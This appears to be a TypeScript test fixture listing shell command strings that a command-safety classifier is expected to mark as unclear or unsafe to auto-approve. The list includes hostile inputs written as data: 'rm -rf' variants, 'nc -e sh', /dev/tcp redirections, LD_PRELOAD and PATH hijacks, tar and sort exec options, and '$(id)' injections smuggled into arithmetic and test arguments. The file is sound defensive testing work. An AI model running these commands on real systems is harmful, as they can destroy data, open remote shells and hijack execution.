import { UNCLEAR_PROGRAMS } from './unclear-programs.ts';

/** Ways to do something of which nobody can say what it is: asked for, at least. */
export const UNCLEAR: readonly string[] = String.raw`
$X
$(echo rm) -rf /srv
"$X" -rf /srv
/bin/r?
/b*n/rm -rf /srv
eval "$X"
eval $(echo cm0= | base64 -d)
. ./x
source /tmp/x
python3 -c 'import os; os.system("id")'
perl -e 'unlink "/srv"'
ruby -e 1
node -e 1
php -r 1
lua x
vi x
vim -c ':!id'
less x
man ls
ed x
git log
git status
git diff
kubectl get pods
kubectl logs web
podman exec web id
podman --url ssh://h ps
nginx -s stop
sshd
chronyc add server x
more x
apt-get update
git -c core.pager=id log
make
npm install
tar --to-command=id -xf a.tar
tar -I id -xf a.tar
tar --checkpoint=1 --checkpoint-action=exec=id -cf a b
tar xf a.tar --use-compress-program id
sort --compress-program=id a
sort -S1 --compress-prog id a
rsync -e id a b
scp a b:
curl http://x
wget http://x
nc -e sh x 1
socat - x
ssh host
docker exec web sh
docker run x
docker volume rm x
docker container rm x
docker system prune -f
docker network create x
openssl rand -out x 16
openssl dgst -sign k a
openssl x509 -engine x -in a
openssl x509 -in engine:x
openssl x509 -in a -out b
openssl x509 -in "$X"
openssl constructor
openssl x509 -provider x
ssh-keygen -f x
ssh-keygen -l
ssh-keygen -l -f x -D /tmp/x.so
unzip a.zip
unzip -l 'a*'
unzip -l a.zip -d /etc
kubectl exec x
apt install x
dpkg -i x.deb
crontab x
at now
batch
gdb -ex id
env PATH=/tmp ls
PATH=/tmp ls
PATH=/tmp; ls
export PATH=/tmp; ls
LD_PRELOAD=/tmp/x ls
LD_PRELOAD=/tmp/x.so; ls
IFS=x ls
BASH_ENV=/tmp/x ls
PAGER=id ls
sudo LD_PRELOAD=/tmp/x ls
LANG=/tmp/x ls
alias ls=rm; ls
ls() { id; }; ls
f() { ls; }; f
log() { echo "$(date) $*"; }; log a
hash -p /tmp/x ls
enable -f /tmp/x x
path=(/tmp); ls
path=/tmp; ls
set -- a; $1
exec -a x
parallel
find . $X
find . -fprint0 x -okdir $X {} +
./ls
/tmp/ls
bin/ls
/usr/bin/../../tmp/ls
ls $'a'
ls $"a"
ls {a,b}
ls =ls
ls a(b)
ls !(a)
ls <(id)
ls <<< x
ls &> x
ls |& cat
ls >& x
cat < /dev/tcp/x/1
echo x > /dev/tcp/x/1
((x=1))
for ((;;)); do ls; done
select x in a; do ls; done
coproc ls
echo $((x))
echo $((a[0]))
echo ${'$'}{x@P}
echo ${'$'}{!x}
echo ${'$'}{x:=y}
echo ${'$'}{a[$(id)]}
test 'a[$(id)]' -eq 1
[ 'a[$(id)]' -eq 1 ]
printf %d 'a[$(id)]'
printf -v PATH x
printf -vPATH 0; ls
printf $(echo -vPATH) 0; ls
printf -- $(echo %n) PATH; ls
printf %n PATH; ls
printf '%s%n' '' PATH; ls
printf '%*n' 1 PATH
printf '\045n' PATH
printf '\x25n' PATH
printf '%\156' PATH
wait -p PATH; ls
wait -fp PATH
wait -pPATH
[ -v "$(cat x)" ]
test -R "$(cat x)"
read PATH
unset PATH
typeset -i x
let x=1
trap id EXIT
shopt -s expand_aliases
history
fc -s
!!; $X
echo 'a\'; ls
ls 'a\' b
foo
sudo -i
sudo -s
sudo -e x
su
su - root
top
date 010100002026
hostname x
date $X
ip link set eth0 down
ip netns exec x id
mount /dev/sda /mnt
nft -f x
if ls; then
ls "
ls '
ls )
echo \
cat <1-5>x
time
openssl enc -in x
dd bogus
strings -x y
cat a\r
< /tmp/x
zsh -c 'ls'; $X
fish -c ls
bash -c
bash -O extglob -c ls
sh -i -c ls
xargs --process-slot-var=PATH ls
gzip -S /../x a
jq -n 'import "x" as $x {search: "/etc"}; $x'
jq 'include "x"; y' a
strings @x
strings *
test -v "$X"
test -R "$X"
[ ! -v "$X" ]
[ $(cat x) -eq 0 ]
python3 --version x
python3 "$x"
./python3 --version
/tmp/python3 --version
x --version
npm --version
PYTHONHOME=/tmp python3 --version
LD_PRELOAD=./x python3 --version
PATH=. python3 --version
[[ -v 'a[$(id)]' ]]
[[ -v $x ]]
[[ $x -eq 0 ]]
[[ x -eq 0 ]]
[[ x =~ $x ]]
[[ -f x && rm y ]]
[[ -f x || y ]]
[[ -f $(cat x) ]]
[[ -f *(e:id:) ]]
[[ -n $x[1] ]]
[[ -o x ]]
[[ a < b ]]
[[ a > b ]]
[ $(wc -l x) -eq 0 ]
[ $(cat x; id -u) -eq 0 ]
[ $(cat x & wc -l) -eq 0 ]
[ $(id -un) = root ]
[ $(grep -c a *) -eq 0 ]
[ $(cat x | grep -c a b) -eq 0 ]
[ $(wc -l < x $(cat y)) -eq 0 ]
[ $X ]
[ $X = y ]
[ "$X" "$Y" ]
test $(cat x)
test *
printf "$X" y
printf $X
printf -vPATH x
wait -p "$X"
wait $X
dirs -S x
ls >! x
ls >>! x
ls >|! x
trap id INT
trap '' DEBUG x
trap "$x" EXIT
trap id
trap - "$x"
read -p 'PATH? ' x
read -p "$y" x
read -p 'a[$(id)]? ' x
read -t "$y" x
read -t PATH x
read -n PATH x
read -rp PATH x
read -p x PATH
x=ls; read -p 'x? ' y; $x
read -a x
read -u 3 PATH
IFS=x ls
IFS=: read PATH
IFS=: printf x; ls
export PATH=$PATH:/opt/bin
export PATH=$PATH:
export PATH=$PATH:/usr/bin/..
export PATH=$PATH:$x
export PATH=/usr/bin LD_PRELOAD=/tmp/x
export PATH='$PATH:/usr/bin':.; ls
PATH=/usr/bin:/tmp ls
PATH=$HOME:/usr/bin ls
PATH=:/usr/bin ls
PATH=$PATH:/usr/bin/$x
PATH+=:/tmp; ls
x=1; x=a; echo $((x))
x=1; [ -f a ] && x=$y; echo $((x))
x=1; read x; [ $x -gt 1 ]
x=1; echo $((a$x))
x=1; echo $((x=2))
x=1; echo $((x<<=2))
x=1; echo $((x++))
x=1; y=-5; echo $((x-$y))
x=1; echo $((x[0]))
x=1; echo $((x,$y))
x=$(wc -l < a); echo $((${'$'}{x}abc))
x=$(wc -l < a; cat b); [ $x -gt 1 ]
x=$(grep -c a *); [ $x -gt 1 ]
x=$(grep -rc a b); [ $x -gt 1 ]
i=0; while [ $i -lt 3 ]; do i=$((i+1)); read i; done
i=0; for j in $(seq 3); do echo $((i)); i=$y; done
for f in *.log; do [ -f $f ]; done
x=ls; for i in 1; do x=cat; break; x=ls; done; $x a
x=ls; for i in 1 2; do x=ls; [ -f a ] && { x=cat; continue; }; x=ls; done; $x a
x=ls; while true; do x=cat; break; x=ls; done; $x a
x=ls; for i in 1; do for j in 1; do x=cat; break 2; done; x=ls; done; $x a
x=/a/b; cat $x:s/a/c/
x=/a/b; cat "$x:h"
x=/ab; cat $x[1,2]
flock r* ls
sudo -u r* ls
timeout 5* ls
nice -n 1* ls
xargs -n 1* ls
xargs -I x"$y" ls xz
xxd /srv/*
xxd -ps a
xxd -as a
uniq a b c
find . -name *
find . -name $x
find . -exec ls "$x" -delete
find . -exec ls "$x" -exec id ';'
find . -exec ls * ';'
find . -exec ls + -exec id ';'
find . -exec ls
printf x*
logout 'a[$(id)]'
service ../x status
service $x status
nft list ruleset ';' flush ruleset
nft list 'ruleset; include "/etc/shadow"'
iconv -f ./x a
iconv --to-code=/etc/shadow a
objdump -S x
xmlwf -x a
zstdcat $x
base64 $x
logger $x
findmnt $x
lspci $x
lspci -q
mtr -r $x
pmap $x
lastlog $x
useradd $x
visudo -c $x
dig +tls-ca=/etc/shadow x
smartctl -l scterc,70,70 /dev/sda
tar cf - @x
apt show ./x.deb
apt-cache show /tmp/x.deb
jq -n '"k" | modulemeta'
file -p x
md5sum -c sums
ip link s eth0 down
ip l s eth0 down
ip netns s x 5
sysctl kernel/../../../etc/shadow
sha224sum --check sums
cksum --check
ls ~-/x
ls "a$[1]"
ls a$[1]
ls "$%"
rm -5 a
dd if=~/x of=/tmp/x
tar --file=~/x
ls() { rm $1 $2; }; ls -rf /tmp/x
x='a b'; ls $x
`
  .split('\n')
  .filter((line) => line !== '')
  .concat(
    UNCLEAR_PROGRAMS,
    'ls\u0000',
    'ls\r',
    'ls \u001b[0m',
    'ls\u00a0x',
    'ls \u200bx',
    'ls \u{FFFD}',
    'l\u00a0s',
    'ls 中\\; id',
    'ls "中\\" ; id ; "',
    'ls "é\\\\"',
    'ls "中`id`"',
    `ls ${'x'.repeat(200_000)}`,
    'cat <<E\nfoo\\\nE\nE',
    'cat <<E\nx',
    'cat <<$x\nfoo\n$x',
    "cat <<'a b'\nfoo\na b",
    `${'('.repeat(400)}ls${')'.repeat(400)}`,
    `${'sudo '.repeat(100)}ls`,
  );
